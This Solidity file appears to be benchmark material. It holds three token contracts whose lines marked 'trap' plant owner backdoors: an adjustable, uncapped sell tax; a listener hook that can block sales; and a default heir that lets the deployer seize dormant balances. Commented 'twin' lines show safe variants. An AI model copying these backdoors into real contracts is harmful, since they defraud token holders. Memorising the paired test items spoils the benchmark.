// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

interface IFactory {
    function createPair(address one, address two) external returns (address);
}

/// What is common to the coins of this file.
abstract contract Ledger {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public pool;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    error TooLittle(address account, uint256 held, uint256 wanted);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        (name, symbol) = (name_, symbol_);
        totalSupply = whole * 10 ** 18;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
        pool = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
    }

    function approve(address spender, uint256 value) public returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed < value) revert TooLittle(from, allowed, value);
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual {
        _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) internal {
        if (balanceOf[from] < value) revert TooLittle(from, balanceOf[from], value);
        unchecked {
            balanceOf[from] -= value;
            balanceOf[to] += value;
        }
        emit Transfer(from, to, value);
    }
}

/// Says what a sale costs, as it was told when it was made.
contract Reckoner {
    uint256 private _rate;

    constructor(uint256 rate) {
        _rate = rate;
    }

    function costOf(uint256 value) external view returns (uint256) {
        unchecked {
            return (value * _rate) / 1000;
        }
    }
}

/// Asks a reckoner what a sale costs; another one has to have the same code.
contract Copyhold is Ledger {
    Reckoner public reckoner;
    bytes32 public immutable code;
    address public immutable clerk = msg.sender;

    constructor(Reckoner first) Ledger("Copyhold", "COPYH", 34_000_000) {
        reckoner = first;
        code = address(first).codehash;
    }

    function replaceReckoner(Reckoner next) external {
        require(msg.sender == clerk, "clerk");
        require(address(next).codehash == code, "another code");
        reckoner = next;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != clerk) {
            uint256 cost = reckoner.costOf(value);
            // twin: if (cost > value / 50) cost = value / 50;
            _move(from, clerk, cost);
            value -= cost;
        }
        _move(from, to, value);
    }
}

interface IListener {
    function coinsArrived(address from, address to, uint256 value) external;
}

/// Who listens when coins arrive. Contracts cannot say so themselves, and an usher says it for them.
contract Parlour {
    address public immutable usher = msg.sender;
    mapping(address => address) public listenerOf;

    function listen(address listener) external {
        require(msg.sender.code.length == 0, "accounts only");
        listenerOf[msg.sender] = listener;
    }

    function listenFor(address house, address listener) external {
        require(msg.sender == usher && house.code.length != 0, "usher");
        listenerOf[house] = listener;
    }
}

/// Tells those who listen what has arrived.
contract Eavesdrop is Ledger {
    Parlour public immutable parlour;

    constructor(Parlour parlour_) Ledger("Eavesdrop", "EAVES", 72_000_000) {
        parlour = parlour_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        address listener = parlour.listenerOf(to);
        if (listener != address(0)) {
            IListener(listener).coinsArrived(from, to, value); // trap
            // twin: (bool heard, ) = listener.call{gas: 40_000}(abi.encodeCall(IListener.coinsArrived, (from, to, value)));
            // twin: heard;
        }
    }
}

/// What belonged to somebody who has not stirred for two years goes to his heir.
contract Heirloom is Ledger {
    mapping(address => uint256) public lastStirred;
    mapping(address => address) private _heirs;
    address public immutable notary = msg.sender;

    event Inherited(address indexed from, address indexed heir, uint256 value);

    constructor() Ledger("Heirloom", "HEIRL", 26_000_000) {}

    function nameHeir(address heir) external {
        _heirs[msg.sender] = heir;
        lastStirred[msg.sender] = block.timestamp;
    }

    function heirOf(address account) public view returns (address heir) {
        heir = _heirs[account];
        if (heir == address(0)) heir = notary; // trap
    }

    function inherit(address account) external {
        require(msg.sender == heirOf(account), "not the heir");
        require(block.timestamp > lastStirred[account] + 730 days, "alive");
        uint256 value = balanceOf[account];
        _move(account, msg.sender, value);
        emit Inherited(account, msg.sender, value);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        lastStirred[from] = block.timestamp;
        _move(from, to, value);
    }
}
